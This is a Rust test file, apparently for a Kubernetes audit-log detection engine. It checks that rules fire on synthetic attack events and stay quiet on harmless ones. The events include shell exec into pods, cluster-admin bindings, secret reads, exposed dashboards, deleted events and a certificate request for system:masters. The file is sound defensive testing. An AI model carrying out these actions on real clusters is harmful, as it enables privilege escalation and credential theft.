    let sa = "system:serviceaccount:ci:deployer";
    let mut log: Vec<Value> = ["get", "list", "patch"]
        .iter()
        .enumerate()
        .map(|(i, verb)| {
            at(
                ev(sa, verb, "deployments", "ci", "app", 200, Value::Null),
                &format!("2026-11-29T08:0{i}:00Z"),
            )
        })
        .collect();
    log.push(at(
        ev(sa, "get", "deployments", "ci", "app", 200, Value::Null),
        "2026-11-29T12:00:00Z",
    ));
    quiet("K8S_NewServiceAccountBehavior", &log);
    log.push(at(
        ev(
            sa,
            "create",
            "clusterrolebindings",
            "",
            "x",
            201,
            Value::Null,
        ),
        "2026-11-29T11:00:00Z",
    ));
    let a = fires("K8S_NewServiceAccountBehavior", &log);
    assert_eq!(
        a.detail,
        "first seen after its baseline: create clusterrolebindings"
    );
    assert_eq!(
        a.resource,
        AlertResource {
            kind: "ServiceAccount".into(),
            namespace: "ci".into(),
            name: "deployer".into()
        }
    );
    // Refused requests are not behaviour.
    let mut refused = log.clone();
    refused.pop();
    refused.push(at(
        ev(
            sa,
            "create",
            "clusterrolebindings",
            "",
            "x",
            403,
            Value::Null,
        ),
        "2026-11-29T11:00:00Z",
    ));
    quiet("K8S_NewServiceAccountBehavior", &refused);
}

#[test]
fn suspicious_user_agent() {
    let mut e = ev(
        "system:serviceaccount:ci:deployer",
        "get",
        "secrets",
        "ci",
        "registry",
        200,
        Value::Null,
    );
    e["sourceIPs"] = json!(["203.0.113.50"]);
    assert_eq!(
        fires("K8S_SuspiciousUserAgent", &[e.clone()]).severity,
        Severity::High
    );
    e["userAgent"] = json!("argocd-application-controller/v2.9");
    quiet("K8S_SuspiciousUserAgent", &[e]);
    quiet(
        "K8S_SuspiciousUserAgent",
        &[ev(ALICE, "get", "pods", "ci", "", 200, Value::Null)],
    );
}

fn service(name: &str, spec: Value) -> Value {
    json!({"kind": "Service", "apiVersion": "v1", "metadata": {"name": name}, "spec": spec})
}

#[test]
fn exposed_services_and_dashboards() {
    fires(
        "K8S_ExposedService",
        &[ev(
            ALICE,
            "create",
            "services",
            "web",
            "shop",
            201,
            service(
                "shop",
                json!({"type": "LoadBalancer", "ports": [{"port": 443}]}),
            ),
        )],
    );
    fires(
        "K8S_ExposedService",
        &[ev(
            ALICE,
            "create",
            "services",
            "web",
            "shop",
            201,
            service(
                "shop",
                json!({"externalIPs": ["198.51.100.1"], "ports": [{"port": 80}]}),
            ),
        )],
    );
    quiet(
        "K8S_ExposedService",
        &[ev(
            ALICE,
            "create",
            "services",
            "web",
            "shop",
            201,
            service("shop", json!({"ports": [{"port": 80}]})),
        )],
    );
    quiet(
        "K8S_ExposedService",
        &[ev(
            ALICE,
            "create",
            "services",
            "web",
            "shop",
            422,
            service("shop", json!({"type": "NodePort"})),
        )],
    );
    // Changed back to ClusterIP: no longer exposed.
    quiet(
        "K8S_ExposedService",
        &[ev(
            ALICE,
            "update",
            "services",
            "web",
            "shop",
            200,
            service("shop", json!({"type": "ClusterIP"})),
        )],
    );
    let a = fires(
        "K8S_ExposedDashboard",
        &[ev(
            ALICE,
            "create",
            "services",
            "kubernetes-dashboard",
            "kubernetes-dashboard",
            201,
            service(
                "kubernetes-dashboard",
                json!({"type": "NodePort", "ports": [{"port": 443}]}),
            ),
        )],
    );
    assert_eq!(a.detail, "Kubernetes dashboard exposed");
    assert_eq!(
        fires(
            "K8S_ExposedDashboard",
            &[ev(
                ALICE,
                "create",
                "services",
                "cache",
                "c",
                201,
                service(
                    "c",
                    json!({"type": "LoadBalancer", "ports": [{"port": 6379}]})
                )
            )]
        )
        .detail,
        "Redis exposed"
    );
    quiet(
        "K8S_ExposedDashboard",
        &[ev(
            ALICE,
            "create",
            "services",
            "kubernetes-dashboard",
            "kubernetes-dashboard",
            201,
            service("kubernetes-dashboard", json!({"ports": [{"port": 443}]})),
        )],
    );
    let pg = json!({"containers": [container(json!({"image": "postgres:16", "env": [{"name": "POSTGRES_HOST_AUTH_METHOD", "value": "trust"}]}))]});
    fires(
        "K8S_ExposedDashboard",
        &[ev(ALICE, "create", "pods", "db", "pg", 201, pod(pg))],
    );
    let pg = json!({"containers": [container(json!({"image": "postgres:16", "env": [{"name": "POSTGRES_HOST_AUTH_METHOD", "value": "scram-sha-256"}]}))]});
    quiet(
        "K8S_ExposedDashboard",
        &[ev(ALICE, "create", "pods", "db", "pg", 201, pod(pg))],
    );
}

#[test]
fn cluster_machinery() {
    fires(
        "K8S_DeleteEvents",
        &[ev(
            ALICE,
            "deletecollection",
            "events",
            "prod",
            "",
            200,
            Value::Null,
        )],
    );
    quiet(
        "K8S_DeleteEvents",
        &[ev(
            ALICE,
            "deletecollection",
            "events",
            "prod",
            "",
            403,
            Value::Null,
        )],
    );
    quiet(
        "K8S_DeleteEvents",
        &[ev(
            "system:serviceaccount:kube-system:namespace-controller",
            "deletecollection",
            "events",
            "prod",
            "",
            200,
            Value::Null,
        )],
    );
    let mut hook = ev(
        ALICE,
        "create",
        "mutatingwebhookconfigurations",
        "",
        "injector",
        201,
        Value::Null,
    );
    hook["objectRef"]["apiGroup"] = json!("admissionregistration.k8s.io");
    assert_eq!(
        fires("K8S_AdmissionController", &[hook]).severity,
        Severity::High
    );
    assert_eq!(
        fires(
            "K8S_AdmissionController",
            &[ev(
                ALICE,
                "delete",
                "validatingwebhookconfigurations",
                "",
                "policy",
                200,
                Value::Null
            )]
        )
        .severity,
        Severity::Medium
    );
    quiet(
        "K8S_AdmissionController",
        &[ev(
            "system:serviceaccount:kube-system:generic-garbage-collector",
            "delete",
            "validatingwebhookconfigurations",
            "",
            "p",
            200,
            Value::Null,
        )],
    );
    fires(
        "K8S_CoreDnsModification",
        &[ev(
            ALICE,
            "patch",
            "configmaps",
            "kube-system",
            "coredns",
            200,
            Value::Null,
        )],
    );
    quiet(
        "K8S_CoreDnsModification",
        &[ev(
            ALICE,
            "patch",
            "configmaps",
            "dev",
            "coredns",
            200,
            Value::Null,
        )],
    );
    quiet(
        "K8S_CoreDnsModification",
        &[ev(
            "system:serviceaccount:kube-system:coredns-autoscaler",
            "update",
            "configmaps",
            "kube-system",
            "coredns",
            200,
            Value::Null,
        )],
    );
    fires(
        "K8S_NamespaceDeleted",
        &[ev(
            ALICE,
            "delete",
            "namespaces",
            "",
            "payments",
            200,
            Value::Null,
        )],
    );
    quiet(
        "K8S_NamespaceDeleted",
        &[ev(
            ALICE,
            "delete",
            "namespaces",
            "",
            "payments",
            403,
            Value::Null,
        )],
    );
}

#[test]
fn credentials_in_config_map() {
    let cm = |data: Value| json!({"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "app"}, "data": data});
    let a = fires(
        "K8S_CredentialsInConfigMap",
        &[ev(
            ALICE,
            "create",
            "configmaps",
            "web",
            "app",
            201,
            cm(json!({"db_password": "hunter2hunter2", "mode": "fast"})),
        )],
    );
    assert_eq!(a.detail, "keys: db_password (password)");
    let json = serde_json::to_string(&a).unwrap();
    assert!(!json.contains("hunter2"), "{json}");
    quiet(
        "K8S_CredentialsInConfigMap",
        &[ev(
            ALICE,
            "create",
            "configmaps",
            "web",
            "app",
            201,
            cm(json!({"mode": "fast", "password_file": "/etc/app/pw"})),
        )],
    );
    quiet(
        "K8S_CredentialsInConfigMap",
        &[ev(
            ALICE,
            "create",
            "configmaps",
            "web",
            "app",
            403,
            cm(json!({"db_password": "hunter2hunter2"})),
        )],
    );
    // The update that removes the credential.
    quiet(
        "K8S_CredentialsInConfigMap",
        &[ev(
            ALICE,
            "update",
            "configmaps",
            "web",
            "app",
            200,
            cm(json!({"mode": "fast"})),
        )],
    );
}

#[test]
fn duplicates_across_files_fold_and_output_is_sorted() {
    let e = exec(ALICE, &["sh"], 101);
    let line = format!("{e}\n");
    let (folded, summary, _) =
        detect_files(&[("a.log", line.as_bytes()), ("b.log", line.as_bytes())]);
    assert_eq!(folded.len(), 1);
    assert_eq!(folded[0].count, 1);
    assert_eq!(summary.events, 1);
    let mut many = vec![
        exec(ALICE, &["sh"], 101),
        ev(
            ALICE,
            "create",
            "clusterrolebindings",
            "",
            "b",
            201,
            binding(
                "ClusterRoleBinding",
                "cluster-admin",
                json!([{"kind": "User", "name": "x"}]),
            ),
        ),
    ];
    let forward = alerts_of(&many);
    many.reverse();
    assert_eq!(alerts_of(&many), forward);
    let sorted = alerts(&many);
    assert!(sorted.windows(2).all(|w| w[0].severity <= w[1].severity));
}

fn alerts_of(events: &[Value]) -> Vec<(String, String)> {
    alerts(events)
        .into_iter()
        .map(|a| (a.kind, a.user))
        .collect()
}

/// The technique ids of Microsoft's Threat Matrix for Kubernetes (its tactic pages and
/// technique pages: MS-TA9001..9041 and 9043), so a detection cannot name an id the
/// matrix does not have.
const MATRIX: &[&str] = &[
    "MS-TA9001",
    "MS-TA9002",
    "MS-TA9003",
    "MS-TA9004",
    "MS-TA9005",
    "MS-TA9006",
    "MS-TA9007",
    "MS-TA9008",
    "MS-TA9009",
    "MS-TA9010",
    "MS-TA9011",
    "MS-TA9012",
    "MS-TA9013",
    "MS-TA9014",
    "MS-TA9015",
    "MS-TA9016",
    "MS-TA9017",
    "MS-TA9018",
    "MS-TA9019",
    "MS-TA9020",
    "MS-TA9021",
    "MS-TA9022",
    "MS-TA9023",
    "MS-TA9024",
    "MS-TA9025",
    "MS-TA9026",
    "MS-TA9027",
    "MS-TA9028",
    "MS-TA9029",
    "MS-TA9030",
    "MS-TA9031",
    "MS-TA9032",
    "MS-TA9033",
    "MS-TA9034",
    "MS-TA9035",
    "MS-TA9036",
    "MS-TA9037",
    "MS-TA9038",
    "MS-TA9039",
    "MS-TA9040",
    "MS-TA9041",
    "MS-TA9043",
];

/// Spot checks of the mapping against the matrix's technique pages: the id is the
/// technique the alert is an instance of.
#[test]
fn threat_matrix_ids_name_the_technique_detected() {
    for (alert, want) in [
        ("K8S_ExecIntoContainer", Some("MS-TA9006")), // Exec into container
        ("K8S_EphemeralContainer", Some("MS-TA9011")), // Sidecar injection
        ("K8S_SensitiveMount", Some("MS-TA9013")),    // (Writable) hostPath mount
        ("K8S_CronJobPersistence", Some("MS-TA9014")), // Kubernetes CronJob
        ("K8S_ServiceAccountTokenRead", Some("MS-TA9016")), // Container service account
        ("K8S_ClusterAdminBinding", Some("MS-TA9019")), // Cluster-admin binding
        ("K8S_DeleteEvents", Some("MS-TA9022")),      // Delete K8S events
        ("K8S_SecretEnumeration", Some("MS-TA9025")), // List K8S secrets
        ("K8S_CredentialsInConfigMap", Some("MS-TA9027")), // Credentials in configuration
        ("K8S_NodeProxy", Some("MS-TA9030")),         // Access Kubelet API
        ("K8S_CoreDnsModification", Some("MS-TA9035")), // CoreDNS poisoning
        ("K8S_MaliciousContainerImage", Some("MS-TA9039")), // Resource hijacking
        ("K8S_CopyFromContainer", Some("MS-TA9041")), // Collecting data from pod
        ("K8S_PortForward", None),                    // no matrix technique
        ("K8S_Impersonation", None),
        ("K8S_CertificateSigningRequest", None),
    ] {
        let info = &crate::detect::detection(alert).expect(alert).info;
        assert_eq!(info.matrix, want, "{alert}");
    }
}

#[test]
fn every_detection_is_documented_and_its_example_fires() {
    assert!(CATALOG.len() >= 40, "{}", CATALOG.len());
    let mut ids: Vec<&str> = CATALOG.iter().map(|d| d.info.id).collect();
    ids.sort_unstable();
    let n = ids.len();
    ids.dedup();
    assert_eq!(ids.len(), n, "duplicate ids");
    for d in &CATALOG {
        let i = &d.info;
        assert!(i.id.starts_with("K8S_"));
        assert!(
            !i.title.is_empty() && !i.description.is_empty() && !i.remediation.is_empty(),
            "{}",
            i.id
        );
        assert!(
            !i.techniques.is_empty() && i.techniques.iter().all(|t| t.starts_with('T')),
            "{}",
            i.id
        );
        assert!(
            i.matrix.is_none_or(|m| MATRIX.contains(&m)),
            "{}: {:?} is not a technique of the Threat Matrix for Kubernetes",
            i.id,
            i.matrix
        );
        let example: Value =
            serde_json::from_str(i.example).unwrap_or_else(|e| panic!("{}: {e}", i.id));
        // Single-event detections fire on their own example.
        if d.check.is_some() {
            fires(i.id, &[example]);
        }
    }
}

#[test]
fn detections_doc_is_current() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/detections.md");
    let want = catalog::markdown();
    if std::env::var_os("UPDATE_DOCS").is_some() {
        std::fs::write(path, &want).unwrap();
    }
    let have = std::fs::read_to_string(path).unwrap_or_default();
    assert!(have == want, "docs/detections.md is stale: run UPDATE_DOCS=1 cargo test -p portolan-engine detections_doc");
}

/// A CSR's subject is judged (`system:masters`, another identity's node name) from the
/// real request in `spec.request`, as the API's JSON carries it (base64 of the PEM),
/// and nothing of the request but the subject reaches the alert.
#[test]
fn csr_subjects_are_judged() {
    use crate::ingest::csr::fixtures::{b64, ALICE_PEM, MASTERS_PEM, NODE_PEM};
    let csr = |pem: &str, signer: &str| {
        json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1",
            "metadata": {"name": "x"},
            "spec": {"request": b64(pem.as_bytes()), "signerName": signer, "usages": ["client auth"]}})
    };
    let create = |user: &str, pem: &str, signer: &str| {
        ev(
            user,
            "create",
            "certificatesigningrequests",
            "",
            "x",
            201,
            csr(pem, signer),
        )
    };
    const CLIENT: &str = "kubernetes.io/kube-apiserver-client";
    const KUBELET: &str = "kubernetes.io/kube-apiserver-client-kubelet";

    // O=system:masters: high, and named, whoever asks (a system identity included).
    for user in [
        ALICE,
        "system:serviceaccount:kube-system:generic-garbage-collector",
    ] {
        let alert = fires(
            "K8S_CertificateSigningRequest",
            &[create(user, MASTERS_PEM, CLIENT)],
        );
        assert_eq!(alert.severity, Severity::High, "{user}");
        assert!(
            alert.detail.contains("O=system:masters"),
            "{}",
            alert.detail
        );
        assert!(alert.detail.contains("CN=mallory"), "{}", alert.detail);
    }
    // A node's name from a user, or from another node: high.
    let alert = fires(
        "K8S_CertificateSigningRequest",
        &[create(ALICE, NODE_PEM, KUBELET)],
    );
    assert_eq!(alert.severity, Severity::High);
    assert!(
        alert
            .detail
            .contains("CN=system:node:ip-10-0-1-23.ec2.internal"),
        "{}",
        alert.detail
    );
    let other = create("system:node:ip-10-0-9-9.ec2.internal", NODE_PEM, KUBELET);
    assert_eq!(
        fires("K8S_CertificateSigningRequest", &[other]).severity,
        Severity::High
    );

    // Negative controls: the node renewing its own certificate, a bootstrapping kubelet,
    // and an ordinary subject on the kubelet signer.
    quiet(
        "K8S_CertificateSigningRequest",
        &[create(
            "system:node:ip-10-0-1-23.ec2.internal",
            NODE_PEM,
            KUBELET,
        )],
    );
    let mut bootstrap = create("system:bootstrap:abcdef", NODE_PEM, KUBELET);
    bootstrap["user"]["groups"] = json!(["system:bootstrappers", "system:authenticated"]);
    quiet("K8S_CertificateSigningRequest", &[bootstrap]);
    quiet(
        "K8S_CertificateSigningRequest",
        &[create(
            "system:serviceaccount:kube-system:csr-bot",
            ALICE_PEM,
            KUBELET,
        )],
    );
    // An ordinary user asking for an ordinary client certificate: the medium alert,
    // without a subject verdict.
    let plain = fires(
        "K8S_CertificateSigningRequest",
        &[create(ALICE, ALICE_PEM, CLIENT)],
    );
    assert_eq!(plain.severity, Severity::Medium);
    assert!(!plain.detail.contains("asks for"), "{}", plain.detail);
    // A refused create is no alert, even for system:masters.
    quiet(
        "K8S_CertificateSigningRequest",
        &[ev(
            ALICE,
            "create",
            "certificatesigningrequests",
            "",
            "x",
            403,
            csr(MASTERS_PEM, CLIENT),
        )],
    );

    // Approving a system:masters request is critical, also by the approving controller.
    let mut approved = csr(MASTERS_PEM, CLIENT);
    approved["status"] = json!({"conditions": [{"type": "Approved", "status": "True"}]});
    for user in [
        ALICE,
        "system:serviceaccount:kube-system:certificate-controller",
    ] {
        let alert = fires(
            "K8S_CertificateSigningRequest",
            &[ev(
                user,
                "update",
                "certificatesigningrequests/approval",
                "",
                "x",
                200,
                approved.clone(),
            )],
        );
        assert_eq!(alert.severity, Severity::Critical, "{user}");
        assert!(alert
            .detail
            .starts_with("approved a request that asks for O=system:masters"));
    }
    // A denial of it is not an approval.
    let mut denied = csr(MASTERS_PEM, CLIENT);
    denied["status"] = json!({"conditions": [{"type": "Denied", "status": "True"}]});
    quiet(
        "K8S_CertificateSigningRequest",
        &[ev(
            ALICE,
            "update",
            "certificatesigningrequests/approval",
            "",
            "x",
            200,
            denied,
        )],
    );

    // Only the subject leaves the parser: no part of the request's base64, PEM or key.
    let events = [create(ALICE, MASTERS_PEM, CLIENT)];
    let out = serde_json::to_string(&alerts(&events)).expect("json");
    let encoded = b64(MASTERS_PEM.as_bytes());
    let key_line = MASTERS_PEM
        .lines()
        .nth(3)
        .expect("a base64 line of the key");
    for fragment in [
        &encoded[..40],
        &encoded[encoded.len() - 40..],
        key_line,
        "BEGIN CERTIFICATE",
    ] {
        assert!(!out.contains(fragment), "{fragment} leaked into {out}");
    }
}
